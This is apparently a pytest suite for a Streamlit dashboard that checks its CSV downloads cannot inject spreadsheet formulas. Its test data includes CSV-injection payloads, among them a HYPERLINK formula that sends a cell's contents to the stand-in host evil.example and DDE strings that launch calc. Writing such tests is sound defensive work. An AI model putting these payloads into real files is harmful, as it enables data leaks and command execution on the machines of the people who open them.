"""No export carries a live formula (issue 19): every table goes through one helper, Streamlit's
own table export is off, and every file a served dashboard hands out over a store full of
formula-like names opens in a spreadsheet as text (OWASP CSV injection: a leading quote)."""

from __future__ import annotations

import ast
import csv
import io
import os
import tomllib
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from tests.dashboard.test_browser import (
    CHROMIUM,
    CHROMIUM_ARGS,
    VAULTWARD,
    free_port,
    require_chromium,
    running,
)
from tests.dashboard.test_browser_layout import open_page, page_urls, settle
from tests.reliability.test_hostile_text import HOSTILE, fill_hostile_store
from vaultward.config.settings import load_settings
from vaultward.reporting.content import FORMULA_PREFIXES
from vaultward.reporting.files import iso_week_of, write_report

ROOT = Path(__file__).resolve().parents[2]
DASHBOARD = ROOT / "dashboard"
HELPER = DASHBOARD / "app_pages" / "tables.py"
TABLE_CALLS = {"dataframe", "data_editor", "table"}
# Beyond the hostile-text names: a link formula and the tab and carriage return OWASP lists.
FORMULAS = [*HOSTILE, '=HYPERLINK("http://evil.example/?x="&A1,"open")', "\t=1+1", "\r=2+2"]


def table_calls(path: Path) -> list[str]:
    """Where `path` calls st.dataframe, st.data_editor or st.table (on st or a container)."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    where = path.relative_to(ROOT) if path.is_relative_to(ROOT) else path.name
    found = [
        f"{where}:{node.lineno} .{node.func.attr}("
        for node in ast.walk(tree)
        if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr in TABLE_CALLS
    ]
    found += [
        f"{where}:{node.lineno} from streamlit import {alias.name}"
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and node.module == "streamlit"
        for alias in node.names
        if alias.name in TABLE_CALLS
    ]
    return found


def test_every_table_goes_through_the_one_helper():
    assert [call.split(" ", 1)[1] for call in table_calls(HELPER)] == [".dataframe("]
    elsewhere = [
        call for path in sorted(DASHBOARD.rglob("*.py")) if path != HELPER for call in table_calls(path)
    ]
    assert elsewhere == [], "show tables with dashboard.app_pages.tables.show_table"


def test_the_ast_check_sees_a_table_drawn_any_way(tmp_path):
    page = tmp_path / "page.py"
    page.write_text(
        "import streamlit as st\nfrom streamlit import table\nst.dataframe(1)\nleft = st\nleft.data_editor(2)\n"
    )
    assert [call.split(" ", 1)[1] for call in table_calls(page)] == [
        ".dataframe(",
        ".data_editor(",
        "from streamlit import table",
    ]


def test_streamlits_table_export_is_off_wherever_the_dashboard_is_run():
    from vaultward.ops.serve import streamlit_command

    defaults = tomllib.loads((DASHBOARD / ".streamlit" / "config.toml").read_text())
    assert defaults["client"]["disableDataExport"] is True
    command = streamlit_command("127.0.0.1", 8765)
    assert command[command.index("--client.disableDataExport") + 1] == "true"


@pytest.fixture
def formula_store(engine, database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A store whose people, wallets, findings, runs and waivers are named like formulas, with
    this week's report (HTML, CSV, JSON) written; returns its configuration file."""
    config = tmp_path / "vaultward.toml"
    config.write_text(f'[store]\ndata_dir = "{tmp_path / "data"}"\n', encoding="utf-8")
    monkeypatch.setenv("VAULTWARD_CONFIG", str(config))
    monkeypatch.setenv("VAULTWARD_DATABASE_URL", database_url)
    fill_hostile_store(engine, load_settings(), FORMULAS)
    write_report(engine, iso_week_of(datetime.now(UTC)), ["html", "csv", "json"], tmp_path / "reports")
    return config


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def live_formulas(text: str) -> list[str]:
    """The cells of a CSV a spreadsheet would run: text starting = + - @ tab or CR (a plain
    negative number is a number)."""
    return [cell for cell in cells(text) if cell.startswith(FORMULA_PREFIXES) and not _number(cell)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_scan_finds_a_live_formula():
    assert live_formulas('a,b\n=1+1,-3\n"\t=x",\'=y\n') == ["=1+1", "\t=x"]


TOOLBAR_DOWNLOAD = '[data-testid="stElementToolbar"] button[aria-label^="Download as CSV"]'
TOOLBAR_ANY = '[data-testid="stElementToolbar"] button'


def toolbar_downloads(page: Any) -> int:
    """Hover every table on the page; how many show a toolbar "Download as CSV" (the toolbar
    itself must show, or the hover proved nothing)."""
    found = 0
    frames = page.locator('[data-testid="stDataFrame"]')
    for n in range(frames.count()):
        frame = frames.nth(n)
        if not frame.is_visible():
            continue
        frame.scroll_into_view_if_needed()
        frame.hover()
        page.wait_for_selector(TOOLBAR_ANY, state="visible", timeout=10_000)
        found += page.locator(TOOLBAR_DOWNLOAD).count()
    return found


def download(page: Any, url: str, n: int) -> tuple[str, bytes]:
    """The file the `n`th download button of the page at `url` gives: its name and bytes. Once
    more from a fresh page if none came (on a loaded machine a made-on-click file's spinner
    has been seen turning for good)."""
    from playwright.sync_api import TimeoutError as NoDownload

    def click(timeout: int) -> tuple[str, bytes]:
        settle(page)
        with page.expect_download(timeout=timeout) as started:
            page.locator('[data-testid="stDownloadButton"] button').nth(n).click()
        return started.value.suggested_filename, Path(started.value.path()).read_bytes()

    try:
        return click(30_000)
    except NoDownload:
        open_page(page, url)
        return click(60_000)


@pytest.mark.browser
@pytest.mark.timeout(1200)  # every page twice over (hovering each table, clicking each download)
# The escaping is the dashboard's, after the store is read: one store is enough for the browser
# (tests/reliability/test_hostile_text.py reads the hostile names from both stores).
@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_every_download_of_every_page_is_spreadsheet_safe(
    formula_store: Path, database_url: str, tmp_path: Path
):
    from playwright.sync_api import sync_playwright

    require_chromium()
    port = free_port()
    env = dict(os.environ, VAULTWARD_CONFIG=str(formula_store), VAULTWARD_DATABASE_URL=database_url)
    base = f"http://127.0.0.1:{port}"
    tables, files = 0, {}
    command = [VAULTWARD, "serve", "--port", str(port)]
    with running(command, env, tmp_path, tmp_path / "serve.log", base), sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        page = browser.new_page(viewport={"width": 1440, "height": 1000}, accept_downloads=True)
        open_page(page, base)
        for url in page_urls(page, base):
            open_page(page, url)
            tables += page.locator('[data-testid="stDataFrame"]').count()
            assert toolbar_downloads(page) == 0, f"a table on {url} offers Streamlit's own CSV download"
            buttons = page.locator('[data-testid="stDownloadButton"] button')
            for n in range(buttons.count()):
                name, body = download(page, url, n)
                files[f"{url} {name}"] = body
        browser.close()
    assert tables >= 10
    csvs = {name: body.decode("utf-8") for name, body in files.items() if name.endswith(".csv")}
    # the people, findings and report CSVs at least, each holding the escaped names
    assert len(csvs) >= 4, sorted(files)
    for name, text in csvs.items():
        assert live_formulas(text) == [], name
    every_cell = [cell for text in csvs.values() for cell in cells(text)]
    for formula in ("=cmd|'/c calc'!A1", '=HYPERLINK("http://evil.example/', "@SUM(1)", "\t=1+1", "\r=2+2"):
        assert any(cell.startswith(f"'{formula}") for cell in every_cell), f"{formula!r} was in no download"


def test_a_carriage_return_in_a_cell_never_starts_a_row():
    from dashboard.labels import spreadsheet_csv

    frame = pd.DataFrame({"name": ["\r=2+2", "a\n=1+1", "=cmd|' /C calc'!A0", "-3"], "count": [1, 2, 3, -4]})
    text = spreadsheet_csv(frame).decode("utf-8")
    assert live_formulas(text) == []
    assert cells(text) == [
        "name",
        "count",
        "'\r=2+2",
        "1",
        "a\n=1+1",
        "2",
        "'=cmd|' /C calc'!A0",
        "3",
        "'-3",
        "-4",
    ]
